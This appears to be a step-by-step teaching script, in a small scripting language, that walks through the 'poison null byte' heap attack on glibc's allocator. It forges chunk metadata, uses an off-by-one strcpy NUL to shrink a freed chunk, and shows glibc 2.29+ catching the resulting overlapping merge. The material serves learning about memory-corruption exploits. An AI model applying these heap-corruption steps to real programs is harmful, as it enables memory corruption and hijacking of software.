# poison-null-byte.hs - attack: one NUL byte past a buffer shrinks a free chunk; glibc 2.29+ catches the merge.
title "Attack: poison null byte"
a = malloc(0x18)
b = malloc(0x508)
c = malloc(0x4f8)
guard = malloc(0x18)
say "b is 0x510 bytes, too large for the tcache. Inside b, forge what its end will look like after it shrinks by 0x10: a prev_size of 0x500 and a next size with P clear."
*(b + 0x4f0) = 0x500
*(b + 0x4f8) = 0x10
free(b)
say "b went to the unsorted bin; c now records prev_size 0x510 and P = 0 (its neighbour is free)."
pause "Now the bug: a string of exactly 24 bytes copied into a's 24 usable bytes"
strcpy(a, "AAAAAAAAAAAAAAAAAAAAAAAA")
say "strcpy wrote the terminating NUL over the low byte of b's size: 0x511 became 0x500. c's prev_size still says 0x510."
b1 = malloc(0x418)
b2 = malloc(0xb8)
say "b1 and b2 came out of the shrunken b. Each split wrote its footer 0x10 too early, at b + 0x4f0: c's prev_size stayed 0x510 and its P bit 0."
free(b1)
pause "In glibc before 2.29, free(c) merged 0x510 bytes backwards, over b2 that is still in use"
free(c)
say "glibc 2.29 added the check: the chunk 0x510 bytes before c has size 0x420, not 0x510, so the program aborts. The variant that still works needs a forged chunk: see house-of-einherjar.hs."
